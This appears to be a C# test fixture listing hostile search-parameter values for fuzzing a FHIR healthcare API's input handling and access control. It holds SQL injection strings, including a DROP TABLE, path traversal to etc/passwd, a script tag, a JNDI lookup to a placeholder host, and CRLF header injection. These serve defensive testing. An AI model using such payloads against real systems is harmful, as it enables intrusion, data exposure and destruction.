using SearchParamType = Hl7.Fhir.Model.SearchParamType;

namespace CareBridge.Tests.Exits;

/// <summary>
/// What somebody might put where a value belongs, in the hope that it is run, matches too much, or breaks something.
/// <c>{id}</c> stands for the id of somebody whom they may not see; <c>%XX</c> is sent as it is.
/// </summary>
internal static class HostileValues
{
    private static readonly string[] Database =
    [
        "{id}' OR '1'='1", "{id}'; DROP TABLE exchange.clients; --", "{id}) OR (1=1",
        "' UNION SELECT body FROM exchange.resource_versions --", "'||pg_sleep(9)||'", "1; WAITFOR DELAY '0:0:9'--",
        "%25", "_", "%25{id}%25", "{id}\\", "$1", "@p0", "\\x41", "E'\\\\'", "[a-z]", "N'x'",
    ];

    private static readonly string[] Paths =
    [
        "Patient.where(id='{id}')", "{id}').or(true", "%25resource.id", "$this", "iif(true,1,2)", "{{{id}}}",
        "Patient/{id}/_history/1", "Patient/{id}#c", "https://elsewhere.example/fhir/Patient/{id}", "urn:uuid:{id}",
        "Patient/../Consent/{id}", "Patient?_id={id}", "Patient/Patient/{id}", "Observation/{id}", "({id})", "{ID}",
        "../../metadata", "..%2F..%2Fetc%2Fpasswd", "$everything", "_history", "*",
    ];

    private static readonly string[] Lists =
    [
        "|", "||", "|{id}", "{id}|", "a|b|c|d", ",", ",,,,", "\\,", "\\|", "{id},{id}", "{id}\\,{id}", "null",
        "undefined", "true", "[]", "<script>alert(1)</script>", "${jndi:ldap://elsewhere.example/a}", "{0}",
    ];

    private static readonly string[] Times =
    [
        "9999", "9999-12-31", "ge9999-12-31T23:59:59.9999999Z", "lt0001-01-01", "lt0001-01-01T00:00:00%2B14:00",
        "gt9999-12-31T23:59:59-14:00", "0000", "2026-02-30", "2026-13", "eq", "ap2026", "zz2026", "-1", "1e309",
        "2026-01-01T24:00:00Z", "2026-01-01T00:00:00%2B99:00", "99999999999999999999",
    ];

    private static readonly string[] Characters =
    [
        "%00", "{id}%00", "%C0%AF", "%FF%FE", "%ED%A0%80", "%0D%0ASet-Cookie: a=b", "%09", "%7F", "%C2%85",
        "%EF%BB%BF{id}",
        "\u202E{id}", "\U0001F600", "\u0130\u0131\u00DF\uFB00", "e\u0301\u0301\u0301", "\uFF11\uFF12", "\uFDFA\uFDFA",
        "%", "%zz", "%u0041", "+", "%20", " {id} ", "#", "&",
    ];

    private static readonly string[] Long =
    [
        new('a', 7000), string.Concat(Enumerable.Repeat("\u00E4", 1000)), new(',', 3000), new('|', 3000),
        new('(', 3000), string.Join(',', Enumerable.Range(0, 500)), new('9', 3000), new('\\', 1500),
    ];

    public static IReadOnlyList<string> All { get; } =
        [.. Database, .. Paths, .. Lists, .. Times, .. Characters, .. Long];

    /// <summary>Those that a parameter of the type might mistake for something.</summary>
    public static IEnumerable<string> For(SearchParamType type) =>
    [
        .. Database, .. Characters, .. Long,
        .. type switch
        {
            SearchParamType.Date => Times,
            SearchParamType.Reference => Paths,
            SearchParamType.Token => Lists,
            _ => (string[])[.. Paths, .. Lists, .. Times],
        },
    ];

    public static bool NamesSomebody(string value) => value.Contains("{id}", StringComparison.OrdinalIgnoreCase);

    /// <summary>Ready for an address; a percent sign stays one.</summary>
    public static string Encoded(string value, Guid id) => string.Join(
        '%', Fill(value, id).Split('%').Select(Uri.EscapeDataString));

    public static string Fill(string value, Guid id) => value
        .Replace("{id}", $"{id}", StringComparison.Ordinal)
        .Replace("{ID}", $"{id:N}".ToUpperInvariant(), StringComparison.Ordinal);
}
